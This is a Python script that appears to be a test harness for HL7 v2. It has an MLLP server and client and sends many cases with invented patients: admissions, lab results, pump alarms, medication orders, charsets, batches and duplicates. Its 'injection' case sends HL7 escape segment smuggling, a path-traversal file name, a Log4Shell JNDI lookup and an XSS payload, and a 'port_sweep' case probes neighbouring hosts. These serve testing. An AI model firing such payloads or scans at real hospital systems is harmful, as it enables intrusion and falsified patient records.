"""HL7 v2 peers for the recordings of single cases: python-hl7's MLLP server and client, and senders that do what the
field does. All patients are invented.

usage: hl7cases.py serve PORT [ADDRESS...]     acknowledges every message (python-hl7 mllp)
       hl7cases.py serve-raw PORT              the same without MLLP: a message ends when the sender pauses
       hl7cases.py CASE HOST PORT              one of the cases below
"""
import asyncio
import base64
import random
import socket
import socketserver
import sys
import time

import hl7
import hl7.mllp

START, END = b"\x0b", b"\x1c\x0d"
PV1 = "PV1|1|I|W2^04^1^HOSP||||D1^LABDOCTOR^ONE^A|||MED|||||||||V1001^^^HOSP^VN"


def msh(app, kind, control, when="20261120081500+0000", version="2.5.1", rest=""):
    return f"MSH|^~\\&|{app}|LABHOSP|ENGINE|LABHOSP|{when}||{kind}|{control}|P|{version}{rest}"


def pid(number, name="LABPATIENT^ONE^M"):
    return (f"PID|1||LAB-{number:04}^^^LABHOSP^MR~99{number:04}^^^REGION^PI||{name}||19700102|F|||1 TEST ST^^TESTCITY^TS^00000"
            f"||555-01{number:02}|||||ACC{number}^^^LABHOSP^AN|000-00-{number:04}")


def obx(n, kind, code, value, unit="", status="F", when="20261120081000", flag="N", sub="", device=""):
    return f"OBX|{n}|{kind}|{code}|{sub}|{value}|{unit}||{flag}|||{status}|||{when}|LAB|N1^LABNURSE^ANN||{device}"


ADT = [
    [msh("REG", "ADT^A01^ADT_A01", "R0001"), "EVN|A01|20261120081500", pid(1), "NK1|1|LABKIN^TWO|SPO||555-0199", PV1,
     "AL1|1|DA|7980^Penicillin^RXNORM|SV|Rash", "DG1|1||I21.9^Acute myocardial infarction^I10|||A",
     "IN1|1|PLAN1^Lab plan|INS1|LAB INSURANCE" + "|" * 32 + "POL-1001"],
    [msh("REG", "ADT^A08^ADT_A01", "R0002"), "EVN|A08|20261120081530", pid(1), PV1, "ZBD|1|site text"],
    [msh("REG", "ADT^A02^ADT_A02", "R0003"), "EVN|A02|20261120081600", pid(1), "PV1|1|I|ICU^01^2^HOSP|||W2^04^1^HOSP|D1^LABDOCTOR^ONE"],
    [msh("REG", "ADT^A40^ADT_A39", "R0004"), "EVN|A40|20261120081700", pid(1), "MRG|LAB-0901^^^LABHOSP^MR"],
]
ORU = [
    msh("LIS", "ORU^R01^ORU_R01", "L0001", rest="|||AL|NE||8859/1"), "SFT|Laboratory Systems|7.4.1|LabCore|b1", pid(1), PV1,
    "ORC|RE|P5001|F7001|||CM", "OBR|1|P5001|F7001^LIS|24323-8^Basic panel^LN|||20261120080500|||||||||D1^LABDOCTOR^ONE||||||20261120081400|||F",
    obx(1, "NM", "2823-3^Potassium^LN", "4.1", "mmol/L"), obx(2, "NM", "2345-7^Glucose^LN", "96", "mg/dL"),
    obx(3, "SN", "5196-1^HBsAg^LN", ">^100", "IU/L", flag="H"), obx(4, "CWE", "883-9^ABO group^LN", "278149003^Blood group A^SCT"),
    obx(5, "ST", "882-1^ABO and Rh^LN", "A POS"), obx(6, "TX", "8251-1^Comment^LN", "sample of LABPATIENT ONE\\.br\\seen \\T\\ checked"),
    obx(7, "ST", "11502-2^Reported by^LN", "LABTECH CAROL"), "NTE|1|L|free text note",
]
PUMP = [
    msh("PUMPGW", "ORU^R40^ORU_R40", "D0001", version="2.6", rest="|||AL|NE|||||IHE_PCD_ACM_001^IHE PCD^1.3.6.1.4.1.19376.1.6.1.4.1^ISO"),
    pid(2, "LABPATIENT^TWO"), "PV1|1|I|ICU^02^1^HOSP", "OBR|1||A77^PUMPGW|196616^MDC_EVT_ALARM^MDC|||20261120081700+0000",
    obx(1, "ST", "196616^MDC_EVT_ALARM^MDC", "Infusion end near", sub="1.1.1.1.1", device="0012210000000001^PUMP^0012210000000001^EUI-64"),
    obx(2, "ST", "68481^MDC_ATTR_EVENT_PHASE^MDC", "start", sub="1.1.1.1.3"),
    obx(3, "ST", "68482^MDC_ATTR_ALARM_STATE^MDC", "active", sub="1.1.1.1.4"),
    obx(4, "ST", "531970^MDC_ID_MODEL_MANUFACTURER^MDC", "Example Infusion", sub="1.0.0.1"),
    obx(5, "ST", "531969^MDC_ID_MODEL_NUMBER^MDC", "EI-3000", sub="1.0.0.2"),
    obx(6, "ST", "531975^MDC_ID_PROD_SPEC_SW^MDC", "4.02", sub="1.0.0.3"),
]
DRUG = [
    [msh("PHARM", "RDE^O11^RDE_O11", "X0001"), pid(2, "LABPATIENT^TWO"), "ORC|NW|P6001|||||^^^20261120090000||20261120082000|N2^LABCLERK^BEA||D1^LABDOCTOR^ONE",
     "RXE|^^^20261120090000|7052^Morphine^RXNORM|10|15|mg^milligram|INJ|||||||||||||||||2|mg/h^milligram per hour", "RXR|IV^Intravenous^HL70162"],
    [msh("PHARM", "RGV^O15^RGV_O15", "X0002", rest="|||AL|AL|||||IHE_PCD_003^IHE PCD^1.3.6.1.4.1.19376.1.6.1.3.1^ISO"), pid(2, "LABPATIENT^TWO"),
     "ORC|RE|P6001|F6001", "RXG|1||^^^20261120090000|7052^Morphine^RXNORM|50||263762^MDC_DIM_MILLI_L^MDC||||||||4|265266^MDC_DIM_MILLI_L_PER_HR^MDC",
     "RXR|IV^Intravenous^HL70162"],
    [msh("PHARM", "RAS^O17^RAS_O17", "X0003"), pid(2, "LABPATIENT^TWO"), "ORC|RE|P6001|F6001",
     "RXA|0|1|20261120090500|20261120093000|7052^Morphine^RXNORM|10|mg||N1^LABNURSE^ANN|N1^LABNURSE^ANN||||||||||CP"],
]
OTHER = [
    [msh("REG", "MDM^T02^MDM_T02", "M0001"), "EVN|T02|20261120082000", pid(1), PV1, "TXA|1|DS|TX|20261120082000||||||||DOC-77||||summary.txt|AU",
     "OBX|1|TX|18842-5^Discharge summary^LN||patient went home|"],
    [msh("REG", "SIU^S12^SIU_S22", "S0001"), "SCH|AP-1|||||ROUTINE", pid(1), "RGS|1", "AIL|1||CT1"],
    [msh("REG", "QBP^Q22^QBP_Q21", "Q0001"), "QPD|Q22^Find Candidates^HL7|T1|@PID.5.1^LABPATIENT", "RCP|I|10^RD"],
    [msh("REG", "ADT^A04^ADT_A01", "REJECT1"), "EVN|A04|20261120082100", "PID|1||LAB-0404^^^LABHOSP^MR||LABPATIENT^FOUR"],
]


def text(lines):
    return "\r".join(lines) + "\r"


async def answer(reader, writer):
    """Acknowledge with AA; a control id that begins with REJECT gets AE and an ERR segment."""
    try:
        while not writer.is_closing():
            message = await reader.readmessage()
            control = str(message.segment("MSH")[10])
            if control.startswith("REJECT"):
                ack = message.create_ack("AE", application="ENGINE", facility="LABHOSP")
                err = "ERR||PID^1^3|204^Unknown key identifier^HL70357|E||||unknown patient"
                ack = hl7.parse(str(ack).rstrip("\r") + "\r" + err)
            else:
                ack = message.create_ack("AA", application="ENGINE", facility="LABHOSP")
            writer.writemessage(ack)
            await writer.drain()
    except asyncio.IncompleteReadError:
        pass
    writer.close()


async def serve(port, addresses):
    server = await hl7.mllp.start_hl7_server(answer, host=addresses or None, port=port, encoding="latin-1", limit=1 << 22)
    async with server:
        await server.serve_forever()


class Raw(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(0.3)
        held, open_ = b"", True
        while open_:
            try:
                data = self.request.recv(65536)
                open_ = bool(data)
                held += data
                continue
            except TimeoutError:
                pass
            for block in [b"MSH" + part for part in held.split(b"MSH")[1:]]:
                message = hl7.parse(block.decode("latin-1").replace("\n", "\r"))
                self.request.sendall(str(message.create_ack("AA", application="ENGINE", facility="LABHOSP")).encode())
            held = b""


class Link:
    """A sender that minds only the end of the acknowledgement's block."""

    def __init__(self, host, port):
        self.socket = socket.create_connection((host, port), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.held = b""

    def put(self, data, *cuts):
        for at, to in zip((0,) + cuts, cuts + (len(data),)):
            self.socket.sendall(data[at:to])
            time.sleep(0.03)

    def acks(self, count):
        while self.held.count(END) < count:
            data = self.socket.recv(65536)
            if not data:
                raise ConnectionError("no acknowledgement")
            self.held += data
        self.held = b""

    def send(self, lines, encoding="latin-1"):
        self.put(START + text(lines).encode(encoding) + END)
        self.acks(1)


async def client(host, port, encoding, messages):
    reader, writer = await hl7.mllp.open_hl7_connection(host, port, encoding=encoding)
    for lines in messages:
        writer.writemessage(hl7.parse(text(lines)))
        await writer.drain()
        await reader.readmessage()
    writer.close()
    await writer.wait_closed()


def mllp_adt_oru(host, port):
    """Messages of several kinds by python-hl7's client; three in one segment; one over many; one after a keep-alive."""
    asyncio.run(client(host, port, "latin-1", ADT + [ORU, PUMP] + DRUG + OTHER))
    link = Link(host, port)
    blocks = [START + text([msh("REG", "ADT^A08^ADT_A01", f"B{n:04}"), "EVN|A08", pid(n)]).encode() + END for n in (1, 2, 3)]
    link.put(b"".join(blocks))
    link.acks(3)
    data = START + text([msh("LIS", "ORU^R01^ORU_R01", "L0002")] + ORU[2:]).encode() + END
    link.put(data, 1, 3, 9, 40, 41, len(data) - 2, len(data) - 1)
    link.acks(1)


def charsets(host, port):
    link = Link(host, port)
    for n, (name, encoding, patient) in enumerate([
            ("8859/1", "latin-1", "LÄBPATIENT^RENÉ"), ("8859/2", "iso8859-2", "ŁABPATIENT^ŻANETA"),
            ("8859/5", "iso8859-5", "ЛАБПАЦИЕНТ^ИВАН"), ("8859/7", "iso8859-7", "ΛΑΒΠΑΤΙΕΝΤ^ΝΙΚΟΣ"),
            ("8859/15", "iso8859-15", "LABPATIENT^€URO"), ("UNICODE UTF-8", "utf-8", "LÄBPATIENT^花子"),
            ("ASCII~ISO IR87", "iso2022_jp", "LABPATIENT^HANAKO~山田^花子"), ("GB 18030-2000", "gb18030", "李^小龙"),
            ("BIG-5", "big5", "許^功蓋"), ("KS X 1001", "euc_kr", "홍^길동"),
            ("", "utf-8", "LÄBPATIENT^GUESSED"), ("", "cp1252", "LÄBPATIENT^GUESSED"), ("ASCII", "latin-1", "LÄBPATIENT^WRONG")]):
        link.send([msh("REG", "ADT^A08^ADT_A01", f"C{n:04}", rest="||||||" + name), "EVN|A08", pid(n + 1, patient)], encoding)
    link.send([r"MSH!@$%*!REG!LABHOSP!ENGINE!LABHOSP!20261120081500!!ADT@A08@ADT_A01!C0100!P!2.5.1", "EVN!A08",
               r"PID!1!!LAB-0100@@@LABHOSP@MR$77@@@R@PI!!LABPATIENT@DE%S%LIM@%X4A4B%", "OBX!1!TX!X@bar %F% at %S%!!1!"])
    wide = Link(host, port)  # python-hl7 does not answer this one
    wide.put(START + text([msh("REG", "ADT^A08^ADT_A01", "C0200", rest="||||||UNICODE UTF-16"), "EVN|A08", pid(20, "LÄBPATIENT^WIDE")]).encode("utf-16-le") + END)
    time.sleep(0.5)


def batch(host, port):
    """A file of two batches in one block, one with a wrong count; then a batch without a block each."""
    lines = ["FHS|^~\\&|REG|LABHOSP|ENGINE|LABHOSP|20261120090000||NIGHT.HL7||FILE1"]
    number = 0
    for name, count, declared in (("B1", 3, 3), ("B2", 2, 5)):
        lines.append(f"BHS|^~\\&|REG|LABHOSP|ENGINE|LABHOSP|20261120090000||{name}||{name}-77")
        for _ in range(count):
            number += 1
            lines += [msh("REG", "ADT^A08^ADT_A01", f"N{number:04}"), "EVN|A08", pid(number)]
        lines.append(f"BTS|{declared}|{name}")
    lines.append("FTS|2|end")
    link = Link(host, port)
    link.put(START + text(lines).encode() + END)
    time.sleep(0.5)
    link.socket.close()
    link = Link(host, port)
    link.put(text(["BHS|^~\\&|REG|LABHOSP|ENGINE|LABHOSP|20261120090100||B3||B3-78",
                   msh("REG", "ADT^A08^ADT_A01", "N0006"), "EVN|A08", pid(6), "BTS|1"]).encode())
    time.sleep(0.5)


def no_mllp(host, port):
    """Raw messages: CR, LF and CRLF; two in one segment; the last without an end of line."""
    link = Link(host, port)
    for n, end in enumerate(("\r", "\n", "\r\n")):
        lines = [msh("OLDLAB", "ORU^R01", f"W{n:04}", version="2.3"), pid(n + 1), "OBR|1|||GLU", obx(1, "NM", "GLU^Glucose^L", str(90 + n), "mg/dL")]
        link.put((end.join(lines) + end).encode())
        time.sleep(0.6)
    both = [text([msh("OLDLAB", "ADT^A08", f"W001{n}", version="2.3"), "EVN|A08", pid(n)]) for n in (1, 2)]
    link.put("".join(both).rstrip("\r").encode())
    time.sleep(0.8)


def large_pdf(host, port):
    """A report with a PDF of 100 KB in OBX-5, and one after it."""
    noise = random.Random(1)
    pdf = b"%PDF-1.4\n% invented report\n" + bytes(noise.randrange(256) for _ in range(100_000)) + b"\n%%EOF\n"
    body = base64.b64encode(pdf).decode()
    link = Link(host, port)
    link.send([msh("REP", "MDM^T02^MDM_T02", "P0001"), "EVN|T02", pid(1), PV1, "TXA|1|RAD|AP|||||||||DOC-1||||scan report.pdf|AU",
               f"OBX|1|ED|PDF^Report^L||REP^application^pdf^Base64^{body}||||||F|||20261120083000|RAD"])
    link.send([msh("REP", "ADT^A08^ADT_A01", "P0002"), "EVN|A08", pid(1)])


def potassium(control, value, status="F", when="20261120081000", patient=1, app="LIS", sent="20261120081500+0000"):
    return [msh(app, "ORU^R01^ORU_R01", control, when=sent), pid(patient), "OBR|1|P1|F1^LIS|24323-8^Basic panel^LN|||" + when,
            obx(1, "NM", "2823-3^Potassium^LN", value, "mmol/L", status=status, when=when)]


def duplicate_control_id(host, port):
    """Same control id, other content; and, not to be found, the same message twice."""
    link = Link(host, port)
    link.send(potassium("L0100", "4.1"))
    link.send(potassium("L0101", "4.2", when="20261120081100"))
    link.send(potassium("L0101", "4.2", when="20261120081100", sent="20261120081520+0000"))
    link.send(potassium("L0100", "6.9"))


def conflicting_obx(host, port):
    """Two values for one patient, test and time; and, not to be found, a correction with status C."""
    link = Link(host, port)
    link.send(potassium("L0200", "4.1"))
    link.send(potassium("L0201", "3.9", when="20261120082000", patient=2))
    link.send(potassium("L0202", "4.0", status="C", when="20261120082000", patient=2))
    other = Link(host, port)
    other.send(potassium("L0203", "6.8"))


def port_sweep(host, port):
    """Tries the HL7 port of eight neighbours; three listen."""
    first = host.rsplit(".", 1)
    for n in range(8):
        try:
            socket.create_connection((f"{first[0]}.{int(first[1]) + n}", port), timeout=0.5).close()
        except OSError:
            pass


def injection(host, port):
    """Fields whose escapes yield another segment (CVE-2020-27260), a second header in one block, a path and a lookup."""
    link = Link(host, port)
    link.send([msh("SCAN", "ADT^A08^ADT_A01", "I0001"), "EVN|A08",
               r"PID|1||LAB-0001\X0D\OBX\F\1\F\NM\F\2823-3\F\\F\9.9||LABPATIENT^ONE"])
    link.send([msh("SCAN", "ORU^R01^ORU_R01", "I0002"), pid(1), "OBR|1|||X", "OBX|1|TX|N^note^L||harmless line\nPID|1||LAB-0002||LABPATIENT^TWO"])
    link.put(START + text([msh("SCAN", "ADT^A08^ADT_A01", "I0003"), "EVN|A08", pid(1),
                           msh("LIS", "ORU^R01^ORU_R01", "I0004"), pid(2), obx(1, "NM", "2823-3^Potassium^LN", "9.9")]).encode() + END)
    time.sleep(0.5)
    link = Link(host, port)
    link.send([msh("SCAN", "MDM^T02^MDM_T02", "I0005"), "EVN|T02", pid(1), "TXA|1|DS|TX|||||||||D||||../../etc/cron.d/x",
               "OBX|1|TX|N^note^L||${jndi:ldap://192.0.2.1/a} <script>alert(1)</script>"])


def main():
    name, *rest = sys.argv[1:]
    if name == "serve":
        asyncio.run(serve(int(rest[0]), rest[1:]))
    elif name == "serve-raw":
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingTCPServer(("", int(rest[0])), Raw).serve_forever()
    else:
        globals()[name.replace("-", "_")](rest[0], int(rest[1]))


main()
